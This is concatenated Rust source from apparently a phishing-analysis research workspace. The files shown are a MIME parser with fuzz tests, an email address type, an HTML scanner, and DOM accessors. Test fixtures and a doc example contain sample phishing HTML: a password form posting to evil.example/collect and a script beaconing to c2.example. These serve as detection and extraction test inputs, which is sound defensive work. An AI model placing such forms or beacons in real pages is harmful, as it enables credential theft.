                self.nodes[idx as usize].first_child = child;
            } else {
                self.nodes[prev as usize].next_sibling = child;
            }
            prev = child;
        }
        self.parts.truncate(mark);
        Ok(idx)
    }
}

/// A parsed MIME tree borrowed from a [`MimeArena`] and the raw message.
#[derive(Debug)]
pub struct MimeView<'r, 'a> {
    arena: &'r MimeArena,
    raw: &'a str,
}

impl<'r, 'a> MimeView<'r, 'a> {
    /// The root entity.
    pub fn root(&self) -> EntityRef<'r, 'a> {
        EntityRef {
            arena: self.arena,
            raw: self.raw,
            idx: 0,
        }
    }

    /// Total entities in the tree.
    pub fn len(&self) -> usize {
        self.arena.nodes.len()
    }

    /// Whether the tree is empty (it never is after a successful parse).
    pub fn is_empty(&self) -> bool {
        self.arena.nodes.is_empty()
    }
}

/// One entity of a [`MimeView`]: all accessors return spans into the raw
/// message; decoding happens only on request, into caller buffers.
#[derive(Debug, Clone, Copy)]
pub struct EntityRef<'r, 'a> {
    arena: &'r MimeArena,
    raw: &'a str,
    idx: u32,
}

impl<'r, 'a> EntityRef<'r, 'a> {
    fn node(&self) -> &'r RawNode {
        &self.arena.nodes[self.idx as usize]
    }

    /// The entity's raw header block.
    pub fn header_block(&self) -> &'a str {
        let (s, e) = self.node().header;
        &self.raw[s as usize..e as usize]
    }

    /// Iterate the entity's header fields (borrowed, validation already
    /// done at parse time).
    pub fn headers(&self) -> HeaderIter<'a> {
        HeaderIter::new(self.header_block())
    }

    /// Unfolded value of the first header named `name`.
    pub fn header(&self, name: &str) -> Option<Cow<'a, str>> {
        self.headers()
            .flatten()
            .find(|f| f.name().eq_ignore_ascii_case(name))
            .map(|f| f.value())
    }

    /// The raw, still transfer-encoded body span. For multipart entities
    /// this is the full body including delimiter lines.
    pub fn raw_body(&self) -> &'a str {
        let (s, e) = self.node().body;
        &self.raw[s as usize..e as usize]
    }

    /// Whether the entity is a multipart container.
    pub fn is_multipart(&self) -> bool {
        self.node().multipart
    }

    /// The entity's dispatch category.
    pub fn media_type(&self) -> MediaType {
        match self.header("Content-Type") {
            Some(v) => ContentTypeRef::parse(v.as_ref()).media_type(),
            None => MediaType::Text,
        }
    }

    /// The entity's parsed (owned) content type.
    pub fn content_type(&self) -> ContentType {
        match self.header("Content-Type") {
            Some(v) => ContentTypeRef::parse(v.as_ref()).to_content_type(),
            None => ContentType::default(),
        }
    }

    /// Child entities (empty for leaves).
    pub fn children(&self) -> Children<'r, 'a> {
        Children {
            arena: self.arena,
            raw: self.raw,
            next: self.node().first_child,
        }
    }

    /// Transfer-decode the leaf body into `out` (cleared first), applying
    /// the entity's `Content-Transfer-Encoding`. Returns `false` (leaving
    /// `out` empty) for multipart entities.
    pub fn decode_body_into(&self, out: &mut Vec<u8>) -> bool {
        out.clear();
        if self.is_multipart() {
            return false;
        }
        let body = self.raw_body();
        let encoding = self.header("Content-Transfer-Encoding");
        let encoding = encoding.as_deref().unwrap_or("7bit");
        match encoding.trim().to_ascii_lowercase().as_str() {
            "base64" => {
                if codec::base64_decode_into(body, out).is_err() {
                    out.clear();
                    out.extend_from_slice(body.as_bytes());
                }
            }
            "quoted-printable" => codec::quoted_printable_decode_into(body, out),
            _ => out.extend_from_slice(body.as_bytes()),
        }
        true
    }

    /// Materialize this entity (and its subtree) as an owned
    /// [`MimeEntity`](crate::MimeEntity).
    pub fn to_entity(&self) -> crate::MimeEntity {
        let headers = crate::HeaderMap::parse(self.header_block())
            .expect("header block validated at arena parse time");
        let body = if self.is_multipart() {
            crate::MimeBody::Multipart(self.children().map(|c| c.to_entity()).collect())
        } else {
            let mut buf = Vec::new();
            self.decode_body_into(&mut buf);
            crate::MimeBody::Leaf(buf)
        };
        crate::MimeEntity { headers, body }
    }
}

/// Iterator over an entity's children.
#[derive(Debug)]
pub struct Children<'r, 'a> {
    arena: &'r MimeArena,
    raw: &'a str,
    next: u32,
}

impl<'r, 'a> Iterator for Children<'r, 'a> {
    type Item = EntityRef<'r, 'a>;

    fn next(&mut self) -> Option<EntityRef<'r, 'a>> {
        if self.next == NONE {
            return None;
        }
        let idx = self.next;
        self.next = self.arena.nodes[idx as usize].next_sibling;
        Some(EntityRef {
            arena: self.arena,
            raw: self.raw,
            idx,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::reference;
    use crate::{HeaderMap, MimeEntity};

    /// Tiny deterministic generator for fuzz loops that must run without
    /// external crates.
    struct Lcg(u64);

    impl Lcg {
        fn next(&mut self) -> u64 {
            self.0 = self
                .0
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            self.0 >> 11
        }

        fn pick<T: Copy>(&mut self, items: &[T]) -> T {
            items[(self.next() as usize) % items.len()]
        }
    }

    fn header_soup(rng: &mut Lcg, len: usize) -> String {
        const ATOMS: &[&str] = &[
            "From", "Subject", "X-Loop", ":", " ", "\t", "\r\n", "\n", "\r", "value",
            "a", "B", "=?utf-8?", "@", "\u{e9}", "0x7f:\u{7f}", "", "Received",
        ];
        let mut out = String::new();
        for _ in 0..len {
            out.push_str(rng.pick(ATOMS));
        }
        out
    }

    #[test]
    fn find_byte_matches_naive_scan() {
        let mut rng = Lcg(7);
        for _ in 0..500 {
            let len = (rng.next() % 40) as usize;
            let data: Vec<u8> = (0..len).map(|_| (rng.next() % 7) as u8).collect();
            let needle = (rng.next() % 7) as u8;
            let from = (rng.next() as usize) % (len + 1);
            let naive = data[from..].iter().position(|&b| b == needle).map(|p| p + from);
            assert_eq!(find_byte(&data, needle, from), naive, "{data:?} {needle} {from}");
        }
    }

    #[test]
    fn line_cursor_matches_split_semantics() {
        let mut rng = Lcg(11);
        for _ in 0..400 {
            let n = (rng.next() % 12) as usize;
            let s = header_soup(&mut rng, n);
            let expected: Vec<&str> = s.split("\r\n").flat_map(|l| l.split('\n')).collect();
            let mut got = Vec::new();
            let mut cur = LineCursor::new(&s);
            while let Some((_, line)) = cur.next_line() {
                got.push(line);
            }
            assert_eq!(got, expected, "input {s:?}");
        }
    }

    #[test]
    fn header_iter_agrees_with_reference_parser() {
        let fixtures = [
            "From: a@x.example\r\nTo: b@y.example\r\nSubject: hi",
            "Subject: a very\r\n long subject\r\n\tfolded twice",
            "A: 1\n\n B continues A\nC: 2",
            "A: x\r\n \r\nB: y",
            "Subject : trailing-space-name",
            "Subject\t: tab-name",
            ": empty-name",
            " leading continuation",
            "no colon here",
            "A: x\r\nB!#$%&'*+-^_`|~: token-name",
            "",
            "A:",
            "A:   padded   \r\n\tcont   ",
        ];
        let mut rng = Lcg(23);
        let fuzz: Vec<String> = (0..600)
            .map(|_| {
                let n = (rng.next() % 20) as usize;
                header_soup(&mut rng, n)
            })
            .collect();
        for block in fixtures.iter().map(|s| s.to_string()).chain(fuzz) {
            let expected = reference::parse_header_block(&block);
            let got = HeaderMap::parse(&block);
            assert_eq!(got, expected, "block {block:?}");
        }
    }

    #[test]
    fn append_value_matches_value() {
        let block = "A: one\r\n two\r\n\tthree\r\nB: flat";
        let mut buf = String::new();
        for field in HeaderIter::new(block) {
            let field = field.unwrap();
            buf.clear();
            field.append_value(&mut buf);
            assert_eq!(buf, field.value());
        }
    }

    #[test]
    fn content_type_ref_agrees_with_reference_parser() {
        let fixtures = [
            "text/html",
            r#"multipart/mixed; boundary="--=_b0undary42""#,
            "  Application/PDF ;  Name=invoice.pdf ",
            "",
            "nonsense",
            "/half",
            "half/",
            "a/b; ; x=1; X=2; =skip;q=\"z\"",
            "TEXT/Plain; CHARSET=UTF-8",
            "image/png; name=\"a b\"; name=second",
            "application/x-zip-compressed",
            "message/RFC822",
            "text / html",
            "multipart/alternative;boundary=b;boundary=c",
        ];
        let mut rng = Lcg(41);
        const ATOMS: &[&str] = &[
            "text", "/", ";", "=", "\"", " ", "plain", "HTML", "boundary", "b-1",
            "multipart", "mixed", "charset", "Application", "octet-stream", "",
        ];
        let fuzz: Vec<String> = (0..600)
            .map(|_| {
                let n = (rng.next() % 10) as usize;
                (0..n).map(|_| rng.pick(ATOMS)).collect::<String>()
            })
            .collect();
        for value in fixtures.iter().map(|s| s.to_string()).chain(fuzz) {
            let expected = reference::parse_content_type(&value);
            let ct = ContentTypeRef::parse(&value);
            assert_eq!(ct.to_content_type(), expected, "value {value:?}");
            assert_eq!(ct.media_type(), expected.media_type(), "value {value:?}");
            assert_eq!(ct.top(), expected.top, "value {value:?}");
            assert_eq!(ct.sub(), expected.sub, "value {value:?}");
            assert_eq!(
                ct.boundary(),
                expected.boundary(),
                "value {value:?}"
            );
        }
    }

    #[test]
    fn split_header_body_agrees_with_reference() {
        let mut rng = Lcg(57);
        for _ in 0..600 {
            let n = (rng.next() % 16) as usize;
            let s = header_soup(&mut rng, n);
            assert_eq!(
                split_header_body(&s),
                reference::split_header_body(&s),
                "input {s:?}"
            );
        }
    }

    #[test]
    fn split_multipart_offsets_agree_with_reference() {
        let boundaries = ["bb", "", "b-1", "--", "x y", "=_cbx_0000000000000000_0"];
        let mut rng = Lcg(91);
        const ATOMS: &[&str] = &[
            "--bb", "--bb--", "--", "part", "\r\n", "\n", " \t", "--b-1", "----",
            "content", "--bb \t", "", "--bbx",
        ];
        for _ in 0..800 {
            let n = (rng.next() % 14) as usize;
            let body: String = (0..n).map(|_| rng.pick(ATOMS)).collect();
            let boundary = rng.pick(&boundaries);
            let expected = reference::split_multipart(&body, boundary);
            let mut spans = Vec::new();
            split_multipart_offsets(&body, boundary, &mut spans);
            let got: Vec<&str> = spans
                .iter()
                .map(|&(s, e)| &body[s as usize..e as usize])
                .collect();
            assert_eq!(got, expected, "body {body:?} boundary {boundary:?}");
        }
    }

    #[test]
    fn arena_view_materializes_reference_tree() {
        let mut arena = MimeArena::new();
        let mut builder = crate::MessageBuilder::new();
        builder
            .from("a@x.example")
            .subject("invoice")
            .text_body("see attachment")
            .html_body("<p>see attachment</p>")
            .attach("invoice.pdf", "application/pdf", b"%PDF-1.4 fake");
        let raw = builder.build();
        let view = arena.parse(&raw).unwrap();
        let expected = reference::parse_message(&raw).unwrap();
        assert_eq!(view.root().to_entity(), expected);
        assert_eq!(view.root().media_type(), MediaType::Multipart);
        // root (mixed) + alternative + text + html + pdf = 5
        assert_eq!(view.len(), 5);
        assert!(!view.is_empty());

        // Warm-arena reparse of a different message still agrees.
        let raw2 = "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\ncaf=C3=A9";
        let view2 = arena.parse(raw2).unwrap();
        assert_eq!(view2.root().to_entity(), reference::parse_message(raw2).unwrap());
        let mut buf = Vec::new();
        assert!(view2.root().decode_body_into(&mut buf));
        assert_eq!(buf, "caf\u{e9}".as_bytes());
    }

    #[test]
    fn owned_parse_agrees_with_reference_on_fuzzed_messages() {
        let mut rng = Lcg(133);
        const ATOMS: &[&str] = &[
            "Content-Type: multipart/mixed; boundary=\"bb\"\r\n",
            "Content-Type: text/plain\r\n",
            "Content-Type: multipart/mixed\r\n",
            "Content-Transfer-Encoding: base64\r\n",
            "Content-Transfer-Encoding: quoted-printable\r\n",
            "Subject: x\r\n",
            "\r\n",
            "\n",
            "--bb\r\n",
            "--bb--\r\n",
            "--bb \t\r\n",
            "Zm9v",
            "caf=C3=A9",
            "plain text",
            "--bbx inline",
            ": bad\r\n",
            " lead\r\n",
            "Bad Name: v\r\n",
        ];
        for _ in 0..800 {
            let n = (rng.next() % 12) as usize;
            let raw: String = (0..n).map(|_| rng.pick(ATOMS)).collect();
            let expected = reference::parse_message(&raw);
            let got = MimeEntity::parse(&raw);
            assert_eq!(got, expected, "raw {raw:?}");
        }
    }
}
