//! Email address model.
//!
//! Parsing supports the two forms seen in headers: bare `local@domain` and
//! display-name form `Name <local@domain>`. Domain extraction feeds SPF/DMARC
//! alignment checks and the pipeline's sender analysis.

use std::fmt;
use std::str::FromStr;

/// A structurally valid email address.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct EmailAddress {
    display_name: Option<String>,
    local: String,
    domain: String,
}

/// Error returned when an address cannot be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseAddressError {
    /// What was wrong, in human terms.
    pub reason: &'static str,
}

impl fmt::Display for ParseAddressError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid email address: {}", self.reason)
    }
}

impl std::error::Error for ParseAddressError {}

fn valid_local(s: &str) -> bool {
    !s.is_empty()
        && s.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'+' | b'=')
        })
        && !s.starts_with('.')
        && !s.ends_with('.')
}

fn valid_domain(s: &str) -> bool {
    !s.is_empty()
        && s.contains('.')
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && !s.starts_with('.')
        && !s.ends_with('.')
        && !s.contains("..")
}

impl EmailAddress {
    /// Construct from validated parts.
    ///
    /// # Errors
    ///
    /// Returns [`ParseAddressError`] if either part is structurally invalid.
    pub fn new(local: &str, domain: &str) -> Result<Self, ParseAddressError> {
        if !valid_local(local) {
            return Err(ParseAddressError {
                reason: "invalid local part",
            });
        }
        if !valid_domain(domain) {
            return Err(ParseAddressError {
                reason: "invalid domain",
            });
        }
        Ok(EmailAddress {
            display_name: None,
            local: local.to_string(),
            domain: domain.to_ascii_lowercase(),
        })
    }

    /// Attach a display name (`"Billing Dept" <x@y.example>`).
    pub fn with_display_name(mut self, name: &str) -> Self {
        self.display_name = Some(name.to_string());
        self
    }

    /// The part before `@`.
    pub fn local(&self) -> &str {
        &self.local
    }

    /// The domain after `@`, lowercased.
    pub fn domain(&self) -> &str {
        &self.domain
    }

    /// The display name, if any.
    pub fn display_name(&self) -> Option<&str> {
        self.display_name.as_deref()
    }

    /// `local@domain` without any display name.
    pub fn bare(&self) -> String {
        format!("{}@{}", self.local, self.domain)
    }
}

impl FromStr for EmailAddress {
    type Err = ParseAddressError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let s = s.trim();
        // Display-name form: anything '<' addr '>'
        let (name, addr) = match (s.find('<'), s.rfind('>')) {
            (Some(lt), Some(gt)) if lt < gt => {
                let name = s[..lt].trim().trim_matches('"').to_string();
                (
                    if name.is_empty() { None } else { Some(name) },
                    &s[lt + 1..gt],
                )
            }
            (None, None) => (None, s),
            _ => {
                return Err(ParseAddressError {
                    reason: "mismatched angle brackets",
                })
            }
        };
        let (local, domain) = addr.rsplit_once('@').ok_or(ParseAddressError {
            reason: "missing @",
        })?;
        let mut parsed = EmailAddress::new(local, domain)?;
        parsed.display_name = name;
        Ok(parsed)
    }
}

impl fmt::Display for EmailAddress {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.display_name {
            Some(name) => write!(f, "\"{}\" <{}@{}>", name, self.local, self.domain),
            None => write!(f, "{}@{}", self.local, self.domain),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_bare_address() {
        let a: EmailAddress = "alice@corp.example".parse().unwrap();
        assert_eq!(a.local(), "alice");
        assert_eq!(a.domain(), "corp.example");
        assert_eq!(a.display_name(), None);
    }

    #[test]
    fn parses_display_name_form() {
        let a: EmailAddress = "\"Billing Dept\" <billing@partner.example>".parse().unwrap();
        assert_eq!(a.display_name(), Some("Billing Dept"));
        assert_eq!(a.bare(), "billing@partner.example");
    }

    #[test]
    fn domain_is_lowercased() {
        let a: EmailAddress = "x@CORP.Example".parse().unwrap();
        assert_eq!(a.domain(), "corp.example");
    }

    #[test]
    fn rejects_missing_at() {
        assert!("no-at-sign".parse::<EmailAddress>().is_err());
    }

    #[test]
    fn rejects_bad_domains() {
        for bad in ["x@", "x@nodot", "x@.leading", "x@trail.", "x@dou..ble"] {
            assert!(bad.parse::<EmailAddress>().is_err(), "{bad}");
        }
    }

    #[test]
    fn rejects_bad_local() {
        for bad in ["@y.example", ".x@y.example", "x.@y.example", "a b@y.example"] {
            assert!(bad.parse::<EmailAddress>().is_err(), "{bad}");
        }
    }

    #[test]
    fn display_round_trips() {
        for s in ["a@b.example", "\"A Name\" <a@b.example>"] {
            let a: EmailAddress = s.parse().unwrap();
            let again: EmailAddress = a.to_string().parse().unwrap();
            assert_eq!(a, again);
        }
    }

    #[test]
    fn mismatched_brackets_rejected() {
        assert!("Name <x@y.example".parse::<EmailAddress>().is_err());
    }
}
