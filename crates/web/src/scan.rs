//! Single-pass static extraction over the token stream.
//!
//! The §IV-B parsing phase pulls exactly three signals out of an HTML part:
//! anchor `href`s, the `<meta http-equiv=refresh>` target, and inline
//! `<script>` bodies for dynamic analysis. Before the LUT tokenizer existed
//! the only way to get them was to materialize the full DOM
//! ([`crate::Document`]) and walk it three times. [`PageScan`] produces the
//! same three signals — value-for-value and in the same order — from one
//! pass over [`crate::html::tokenize`], allocating only for the extracted
//! strings themselves.
//!
//! Equivalence with the DOM accessors is load-bearing (the pipeline's scan
//! records must stay bit-identical), so the tests here compare every field
//! against [`crate::Document`] on both fixtures and fuzzed tag soup.

use crate::html::{decode_entities, tokenize, Token};

/// The static-extraction signals of one HTML part, gathered in a single
/// token-stream pass.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct PageScan {
    /// Every `<a href>` value, entity-decoded, in document order —
    /// equals [`crate::Document::anchor_urls`].
    pub anchor_hrefs: Vec<String>,
    /// The first `<meta http-equiv="refresh">` redirect target —
    /// equals [`crate::Document::meta_refresh_url`].
    pub meta_refresh: Option<String>,
    /// Inline `<script>` bodies (no `src`), raw and in document order —
    /// equals [`crate::Document::inline_scripts`].
    pub inline_scripts: Vec<String>,
}

impl PageScan {
    /// Scan `html` in one tokenizer pass.
    pub fn of(html: &str) -> PageScan {
        // Which element the current open tag is, when it is one we extract
        // from. Attribute values are kept as raw spans until `OpenEnd`
        // proves the element is interesting; duplicates overwrite, matching
        // the DOM's last-wins attribute map.
        #[derive(Clone, Copy, PartialEq)]
        enum Cur {
            Other,
            Anchor,
            Meta,
            Script,
        }
        let mut out = PageScan::default();
        let mut cur = Cur::Other;
        let mut href: Option<&str> = None;
        let mut http_equiv: Option<&str> = None;
        let mut content: Option<&str> = None;
        let mut has_src = false;
        // An `OpenEnd`ed src-less <script> whose RawText body is next.
        let mut script_pending = false;
        for tok in tokenize(html) {
            match tok {
                Token::Open(name) => {
                    script_pending = false;
                    cur = if name.eq_ignore_ascii_case("a") {
                        Cur::Anchor
                    } else if name.eq_ignore_ascii_case("meta") {
                        Cur::Meta
                    } else if name.eq_ignore_ascii_case("script") {
                        Cur::Script
                    } else {
                        Cur::Other
                    };
                    href = None;
                    http_equiv = None;
                    content = None;
                    has_src = false;
                }
                Token::Attr { name, value } => match cur {
                    Cur::Anchor if name.eq_ignore_ascii_case("href") => {
                        href = Some(value.unwrap_or(""));
                    }
                    Cur::Meta if name.eq_ignore_ascii_case("http-equiv") => {
                        http_equiv = Some(value.unwrap_or(""));
                    }
                    Cur::Meta if name.eq_ignore_ascii_case("content") => {
                        content = Some(value.unwrap_or(""));
                    }
                    Cur::Script if name.eq_ignore_ascii_case("src") => has_src = true,
                    _ => {}
                },
                Token::OpenEnd { self_closing } => match cur {
                    Cur::Anchor => {
                        if let Some(v) = href {
                            out.anchor_hrefs.push(decode_entities(v).into_owned());
                        }
                    }
                    Cur::Meta => {
                        // First refresh meta that actually carries a url=
                        // wins, exactly like the DOM walk.
                        if out.meta_refresh.is_none() {
                            let is_refresh = http_equiv
                                .map(|v| decode_entities(v).eq_ignore_ascii_case("refresh"))
                                .unwrap_or(false);
                            if is_refresh {
                                if let Some(c) = content {
                                    let c = decode_entities(c);
                                    if let Some(idx) = c.to_ascii_lowercase().find("url=") {
                                        out.meta_refresh =
                                            Some(c[idx + 4..].trim().to_string());
                                    }
                                }
                            }
                        }
                    }
                    Cur::Script => script_pending = !self_closing && !has_src,
                    Cur::Other => {}
                },
                Token::RawText(body) => {
                    if script_pending && !body.trim().is_empty() {
                        out.inline_scripts.push(body.to_string());
                    }
                    script_pending = false;
                }
                // Text / Close / Comment / Doctype: an empty-bodied script
                // produces no RawText, so anything else clears the wait.
                _ => script_pending = false,
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Document;

    /// The three signals via the DOM path, for comparison.
    fn via_dom(html: &str) -> PageScan {
        let doc = Document::parse(html);
        PageScan {
            anchor_hrefs: doc.anchor_urls(),
            meta_refresh: doc.meta_refresh_url(),
            inline_scripts: doc.inline_scripts(),
        }
    }

    #[test]
    fn matches_dom_on_representative_page() {
        let page = r#"
          <html><head>
            <meta http-equiv="refresh" content="0; URL=https://next.example/hop">
            <meta http-equiv="refresh" content="ignored; second refresh loses">
          </head><body>
            <A HREF="https://evil.example/dhfYWfH">continue</A>
            <a href="/relative?a=1&amp;b=2">rel</a>
            <a href>bare</a>
            <a name=anchor-no-href>skip</a>
            <script>location.href = 'https://evil.example/js';</script>
            <script src="https://cdn.example/fp.js"></script>
            <script>   </script>
            <style>a { color: red }</style>
          </body></html>
        "#;
        let scan = PageScan::of(page);
        assert_eq!(scan, via_dom(page));
        assert_eq!(
            scan.anchor_hrefs,
            ["https://evil.example/dhfYWfH", "/relative?a=1&b=2", ""]
        );
        assert_eq!(scan.meta_refresh.as_deref(), Some("https://next.example/hop"));
        assert_eq!(scan.inline_scripts.len(), 1);
        assert!(scan.inline_scripts[0].contains("evil.example/js"));
    }

    #[test]
    fn matches_dom_on_edge_cases() {
        for html in [
            "",
            "<a href=x href=y>last wins</a>",
            "<a href='q&amp;r'></a><a href=\"unterminated",
            "<meta http-equiv=REFRESH content='5; url= https://pad.example '>",
            "<meta http-equiv=refresh><meta http-equiv=refresh content='1;url=https://late.example'>",
            "<script>first</script><p>x</p><script>second</script>",
            "<script src=ext.js>shadowed body</script>",
            "<script/>selfclosed<a href=after></a>",
            "<script>unterminated body <a href=not-a-link>",
            "<SCRIPT>if (a < b) { go('</scr'+'ipt>'); }</SCRIPT>",
            "<!-- <a href=commented></a> --><a href=real></a>",
            "<div><a href=nested><span><a href=deeper></a></span></a></div>",
            "<1b<a href=soup>weird</a>",
        ] {
            assert_eq!(PageScan::of(html), via_dom(html), "html: {html:?}");
        }
    }

    #[test]
    fn matches_dom_on_fuzzed_soup() {
        // Same LCG idiom as the parser's differential fuzz: random atom
        // concatenations, heavy on the extraction-relevant tags.
        let atoms: &[&str] = &[
            "<a href=",
            "<a href=\"https://x.example/p?a=1&amp;b=2\">",
            "<A HREF='/r'>",
            "</a>",
            "<meta http-equiv=refresh ",
            "content=\"3; url=https://m.example/\">",
            "<meta>",
            "<script>",
            "</script>",
            "<script src=/x.js>",
            "var a = '</scr';",
            "url=",
            "text ",
            "&amp;",
            "<div>",
            "</div>",
            "<",
            ">",
            "\"",
            "'",
            "=",
            "/>",
            " ",
            "<!-- c -->",
            "<!doctype html>",
            "\u{e9}",
        ];
        let mut state = 0x1234_5678_9abc_def0u64;
        let mut next = || {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as usize
        };
        for round in 0..400 {
            let len = 1 + next() % 14;
            let mut html = String::new();
            for _ in 0..len {
                html.push_str(atoms[next() % atoms.len()]);
            }
            assert_eq!(
                PageScan::of(&html),
                via_dom(&html),
                "round {round}: {html:?}"
            );
        }
    }
}
