#![warn(missing_docs)]

//! Web-page substrate: HTML parsing, DOM queries, resource extraction, and
//! a deterministic rasterizer.
//!
//! Two sides of the reproduction meet here. The **attacker side** serves
//! HTML whose structure carries the evasions: inline `<script>` blocks
//! (cloaking logic in MJS), hotlinked brand resources (`<img src>` pointing
//! at the impersonated organization — the §V-A referral-tracking finding),
//! forms harvesting credentials, meta-refresh redirects. The **pipeline
//! side** parses the same HTML to extract URLs, scripts and form targets,
//! and rasterizes pages to screenshots for pHash/dHash classification.
//!
//! # Example
//!
//! ```
//! use cb_web::{Document, render};
//!
//! let doc = Document::parse(r#"
//!   <html><head><title>Sign in</title></head>
//!   <body>
//!     <img src="https://corp.example/logo.png">
//!     <form action="https://evil.example/collect">
//!       <input type="password" name="pw">
//!     </form>
//!     <script>fetch("https://c2.example/beacon", navigator.userAgent);</script>
//!   </body></html>
//! "#);
//! assert_eq!(doc.title(), Some("Sign in".to_string()));
//! assert_eq!(doc.resource_urls(), ["https://corp.example/logo.png"]);
//! assert_eq!(doc.form_actions(), ["https://evil.example/collect"]);
//! assert_eq!(doc.inline_scripts().len(), 1);
//! let shot = render::rasterize(&doc, 320, 200);
//! assert_eq!(shot.width(), 320);
//! ```

pub mod dom;
pub mod html;
pub mod render;
pub mod scan;

pub use dom::Document;
pub use html::Node;
pub use scan::PageScan;
