//! Document-level queries over the parsed DOM.
//!
//! These are the accessors both sides of the reproduction use: the pipeline
//! extracts anchor/resource/form/script URLs (§IV-B "any discovered HTML or
//! JavaScript code is dynamically loaded"), the browser pulls inline
//! scripts to execute, and the §V-A referral analysis needs the hotlinked
//! resource hosts.

use crate::html::{parse_fragment, Node};

/// A parsed HTML document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Document {
    roots: Vec<Node>,
}

impl Document {
    /// Parse HTML (never fails; tag soup is recovered like a browser).
    pub fn parse(html: &str) -> Document {
        Document {
            roots: parse_fragment(html),
        }
    }

    /// Root nodes.
    pub fn roots(&self) -> &[Node] {
        &self.roots
    }

    /// Depth-first pre-order walk of all nodes.
    pub fn walk(&self) -> Vec<&Node> {
        fn visit<'a>(node: &'a Node, out: &mut Vec<&'a Node>) {
            out.push(node);
            if let Node::Element { children, .. } = node {
                for c in children {
                    visit(c, out);
                }
            }
        }
        let mut out = Vec::new();
        for r in &self.roots {
            visit(r, &mut out);
        }
        out
    }

    /// All elements with the given tag.
    pub fn elements(&self, tag: &str) -> Vec<&Node> {
        self.walk()
            .into_iter()
            .filter(|n| n.as_element().map(|(t, _, _)| t == tag).unwrap_or(false))
            .collect()
    }

    /// The first element with `id`.
    pub fn element_by_id(&self, id: &str) -> Option<&Node> {
        self.walk()
            .into_iter()
            .find(|n| n.attr("id") == Some(id))
    }

    /// The `<title>` text.
    pub fn title(&self) -> Option<String> {
        self.elements("title")
            .first()
            .map(|n| n.text_content().trim().to_string())
    }

    /// All `<a href>` values.
    pub fn anchor_urls(&self) -> Vec<String> {
        self.elements("a")
            .iter()
            .filter_map(|n| n.attr("href"))
            .map(str::to_string)
            .collect()
    }

    /// All subresource URLs: `img/script/iframe/embed[src]`,
    /// `link[href]`. These are the requests a browser issues while loading
    /// — the surface of the §V-A hotlinking observation.
    pub fn resource_urls(&self) -> Vec<String> {
        let mut out = Vec::new();
        for n in self.walk() {
            if let Some((tag, attrs, _)) = n.as_element() {
                match tag {
                    "img" | "script" | "iframe" | "embed" | "source" => {
                        if let Some(src) = attrs.get("src") {
                            if !src.is_empty() {
                                out.push(src.clone());
                            }
                        }
                    }
                    "link" => {
                        if let Some(href) = attrs.get("href") {
                            if !href.is_empty() {
                                out.push(href.clone());
                            }
                        }
                    }
                    _ => {}
                }
            }
        }
        out
    }

    /// All `<form action>` values.
    pub fn form_actions(&self) -> Vec<String> {
        self.elements("form")
            .iter()
            .filter_map(|n| n.attr("action"))
            .map(str::to_string)
            .collect()
    }

    /// Inline `<script>` bodies (no `src`).
    pub fn inline_scripts(&self) -> Vec<String> {
        self.elements("script")
            .iter()
            .filter(|n| n.attr("src").is_none())
            .map(|n| n.text_content().into_owned())
            .filter(|s| !s.trim().is_empty())
            .collect()
    }

    /// `<meta http-equiv="refresh">` redirect target, if any.
    pub fn meta_refresh_url(&self) -> Option<String> {
        for n in self.elements("meta") {
            let is_refresh = n
                .attr("http-equiv")
                .map(|v| v.eq_ignore_ascii_case("refresh"))
                .unwrap_or(false);
            if is_refresh {
                if let Some(content) = n.attr("content") {
                    // "5; url=https://..."
                    if let Some(idx) = content.to_ascii_lowercase().find("url=") {
                        return Some(content[idx + 4..].trim().to_string());
                    }
                }
            }
        }
        None
    }

    /// `true` if the document contains a password input — the signature of
    /// a credential-harvesting login form.
    pub fn has_password_field(&self) -> bool {
        self.elements("input")
            .iter()
            .any(|n| n.attr("type") == Some("password"))
    }

    /// Visible text of the whole document (excluding script/style bodies).
    pub fn visible_text(&self) -> String {
        fn visit(node: &Node, out: &mut String) {
            match node {
                Node::Text(t) => {
                    if !out.is_empty() && !out.ends_with(' ') {
                        out.push(' ');
                    }
                    out.push_str(t.trim());
                }
                Node::Element { tag, children, .. } => {
                    if tag != "script" && tag != "style" {
                        for c in children {
                            visit(c, out);
                        }
                    }
                }
            }
        }
        let mut out = String::new();
        for r in &self.roots {
            visit(r, &mut out);
        }
        out.trim().to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str = r#"
      <html><head>
        <title> Corp Portal </title>
        <link href="https://cdn.example/style.css" rel="stylesheet">
        <meta http-equiv="refresh" content="0; url=https://next.example/hop">
      </head><body>
        <img src="https://corp.example/logo.png" id="logo">
        <a href="https://evil.example/dhfYWfH">continue</a>
        <a href="/relative">rel</a>
        <form action="https://evil.example/collect" method="post">
          <input type="text" name="user">
          <input type="password" name="pw">
        </form>
        <iframe src="https://embed.example/frame"></iframe>
        <script>console.log('inline one');</script>
        <script src="https://cdn.example/fp.js"></script>
        <style>p { color: blue }</style>
        <p>Welcome back</p>
      </body></html>
    "#;

    #[test]
    fn title_extraction() {
        assert_eq!(Document::parse(PAGE).title(), Some("Corp Portal".to_string()));
    }

    #[test]
    fn anchors_include_relative() {
        let doc = Document::parse(PAGE);
        assert_eq!(
            doc.anchor_urls(),
            ["https://evil.example/dhfYWfH", "/relative"]
        );
    }

    #[test]
    fn resource_urls_cover_img_link_iframe_script() {
        let doc = Document::parse(PAGE);
        let urls = doc.resource_urls();
        assert!(urls.contains(&"https://corp.example/logo.png".to_string()));
